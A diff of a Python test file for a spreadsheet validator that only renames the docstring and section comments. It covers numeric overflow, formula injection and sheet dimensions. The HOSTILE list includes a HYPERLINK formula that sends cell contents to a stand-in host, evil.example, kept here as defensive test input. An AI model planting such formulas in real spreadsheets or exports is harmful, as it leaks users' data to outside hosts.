@@ -1,5 +1,5 @@
-"""Issue 16, classes 7, 8 and 10 (sheet size): numbers that break arithmetic, text leaving
-through side doors, a sheet judged by the rows really there."""
+"""Hostile content: numbers that break arithmetic, text leaving through side doors, a sheet
+judged by the rows really there."""
 
 from __future__ import annotations
 
@@ -35,7 +35,7 @@ def _validate(data: bytes) -> dict:
     return {"accepted": result.accepted, "codes": {i.code for i in result.issues if i.severity == "error"}}
 
 
-# --- class 7 ---------------------------------------------------------------------------------
+# --- numbers that break arithmetic ----------------------------------------------------------
 
 
 @pytest.mark.parametrize(("text", "code"), [("1E+308", "not_a_number"), ("200000000", "implausible_count")])
@@ -75,7 +75,7 @@ def test_dbt_marks_or_refuses_non_finite_values():
     assert "isfinite" in sql
 
 
-# --- class 8 ---------------------------------------------------------------------------------
+# --- text leaving through side doors (formulas, links, markup) ------------------------------
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -139,7 +139,7 @@ def test_text_too_long_for_xlsx_is_refused_at_intake_and_never_cut():
     assert md(long) == long  # other formats keep it whole
 
 
-# --- class 10: a sheet is judged by the rows really there -----------------------------------
+# --- a sheet is judged by the rows really there ---------------------------------------------
 
 
 def test_a_dimension_claiming_the_whole_grid_on_a_9_row_sheet_is_accepted(tmp_path):
